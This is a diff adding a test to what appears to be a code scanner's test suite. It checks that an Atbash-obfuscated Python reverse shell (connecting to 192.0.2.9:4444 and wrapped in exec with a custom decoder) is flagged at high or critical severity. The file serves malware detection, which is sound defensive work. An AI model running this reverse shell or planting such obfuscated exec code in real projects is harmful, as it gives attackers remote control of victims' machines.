@@ -538,3 +538,21 @@ test('a process API reached through a lambda, a written dict of functions or a l
     assert.equal(found?.trigger, 'import', how);
   }
 });
+
+test('a substitution cipher that keeps punctuation (Atbash) is still opaque cipher text', () => {
+  const lower = 'abcdefghijklmnopqrstuvwxyz';
+  const atbash = (text: string) =>
+    [...text]
+      .map((c) => (lower.includes(c.toLowerCase()) ? lower[25 - lower.indexOf(c.toLowerCase())].toUpperCase() : c))
+      .join('');
+  const hidden = atbash('import socket,os;s=socket.socket();s.connect(("192.0.2.9",4444));os.dup2(s.fileno(),0)');
+  const source = [
+    `letters = "${lower.toUpperCase()}"`,
+    `letters_r = "${[...lower.toUpperCase()].reverse().join('')}"`,
+    `exec("".join([letters_r[letters.index(c)] if c in letters_r else c for c in ${JSON.stringify(hidden)}]))`,
+    '',
+  ].join('\n');
+  assert.ok(
+    ['high', 'critical'].includes(ruleOf(findings(source, 'demo/__init__.py'), 'exec-custom-decoder')?.severity ?? ''),
+  );
+});
